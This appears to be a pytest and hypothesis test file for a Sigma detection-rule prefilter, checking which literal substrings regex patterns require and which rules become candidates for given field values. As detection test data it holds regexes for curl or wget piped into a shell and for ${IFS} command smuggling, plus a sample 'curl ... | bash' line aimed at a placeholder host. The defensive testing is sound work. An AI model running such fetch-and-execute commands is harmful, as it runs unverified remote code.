"""What a matching text must hold: nothing that matches is passed over."""

from __future__ import annotations

import re

import pytest
import re2
from hypothesis import given
from hypothesis import strategies as st

from collector.sigma import tree
from collector.sigma.prefilter import Prefilter
from collector.sigma.required import expression, required

PATTERNS = (
    r"(?:curl|wget)[^|]{1,20}\|\s*(?:ba|da|z)?sh",
    r"\$\{IFS\}|\$IFS\$",
    r"(?i)Kiss{2,3}x+",
    r"a(?i:SK)b",
    r"(foo|ba+r)?qux",
    r"^[ab]c.d$",
    r"(x|)y(z|zz)",
    "[[:alpha:]]b",
    r"Ab\x41(cD){1,2}",
)


@pytest.mark.parametrize("pattern", PATTERNS)
@given(data=st.data())
def test_whatever_an_expression_matches_holds_what_it_requires(pattern: str, data: st.DataObject) -> None:
    usual = pattern.replace("[[:alpha:]]", "[a-zA-Z]")
    text = data.draw(
        st.from_regex(re.compile(usual)) | st.text("aAbBcdDkKsS\u017f\u212axyz|${IF}", max_size=8)
    )
    if re2.compile(pattern).search(text) is not None:
        lower = text.lower()
        assert all(any(one in lower for one in texts) for texts in expression(pattern))


def test_expressions_tell_what_they_require() -> None:
    assert list(map(set, expression(PATTERNS[0]))) == [{"curl", "wget"}, {"|"}, {"sh"}]
    assert expression("Abc|x[yz]+zz") == (frozenset({"abc", "zz"}),)
    assert expression("[[:alpha:]]b") == ()
    assert expression("(unclosed") == ()
    assert expression("SK|sk", "i") == ()


def test_a_rule_is_looked_at_where_each_field_holds_what_it_wants() -> None:
    program, line = (
        tree.Text("Image", (tree.MANY, "/tar")),
        tree.Text("CommandLine", (tree.MANY, "-x", tree.MANY)),
    )
    nodes: list[tree.Node] = [
        tree.All((program, line)),
        tree.Any((program, line)),
        tree.Not(program),
        tree.FALSE,
        tree.Regex("CommandLine", "-[xX]"),
        tree.All((line, tree.Any((line, tree.Empty("Image"))))),
    ]
    filtered = Prefilter([(node, {"Image": 0, "CommandLine": 1}) for node in nodes])
    assert filtered.candidates(["/bin/tar", "tar -X"]) == [0, 1, 2, 4, 5]
    assert filtered.candidates(["/bin/tar", "tar"]) == [1, 2]
    assert filtered.candidates(["/bin/tar", None]) == [1, 2]
    assert filtered.candidates(["/bin/ls", "ls -x"]) == [1, 2, 4, 5]
    assert filtered.candidates([None, None]) == [2]
    assert required(tree.Not(program)) == []


def test_a_rule_that_wants_several_texts_of_one_field_is_looked_at_for_the_two_rarest() -> None:
    piped = tree.Regex("CommandLine", r"(curl|wget)[^|]{1,200}\|\s*(ba|da)?sh")
    once = tree.Text("CommandLine", (tree.MANY, "curl", tree.MANY))
    filtered = Prefilter([(node, {"CommandLine": 0}) for node in (piped, tree.All((once, once)))])
    for text, expected in (
        ("curl -s https://x.example/i | bash", [0, 1]),
        ("CURL -s https://x.example/i", [1]),
        ("bash -c ls", []),
        (None, []),
    ):
        assert filtered.candidates([text]) == expected
